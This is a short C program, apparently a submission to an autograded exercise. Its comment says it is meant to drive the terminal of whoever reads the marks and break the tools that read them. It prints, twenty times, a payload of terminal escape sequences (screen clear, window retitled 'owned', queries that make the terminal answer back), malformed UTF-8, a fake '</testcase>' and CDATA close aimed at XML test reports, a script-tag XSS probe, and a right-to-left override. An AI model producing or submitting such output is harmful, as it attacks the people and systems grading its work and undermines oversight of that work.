// Drives the terminal of whoever reads the marks, and breaks what reads them.
// Points: 0
#include <stdio.h>
int main(void)
{
    const char text[]
        = "\033[2J\033]0;owned\a\033[5n\033P$q\033\\ \x9b"
          "31m \0 \xff\xfe\xed\xa0\x80 \xef\xbf\xbe\xef\xbf\xbf "
          "]]> </testcase> <script>alert(1)</script> &nbsp; \r\n\u202e";
    for (int i = 0; i < 20; i++) {
        fwrite(text, sizeof text, 1, stdout);
        putchar('\n');
    }
    return 0;
}
